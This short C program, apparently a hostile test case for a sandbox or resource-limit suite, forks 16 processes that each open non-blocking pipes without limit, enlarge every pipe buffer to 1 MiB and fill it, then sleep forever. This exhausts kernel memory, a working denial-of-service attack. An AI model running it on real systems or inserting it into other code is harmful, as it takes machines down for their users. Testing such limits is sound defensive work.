// Attacks: kernel memory, with full pipes held by many processes.
#include "../hostile.h"
int main(void) {
  for (int i = 0; i < 4; i++) fork();
  static char block[1 << 20];
  for (int ends[2]; pipe2(ends, O_NONBLOCK) == 0;) {
    fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
    while (write(ends[1], block, sizeof block) > 0) {
    }
  }
  while (1) pause();
}
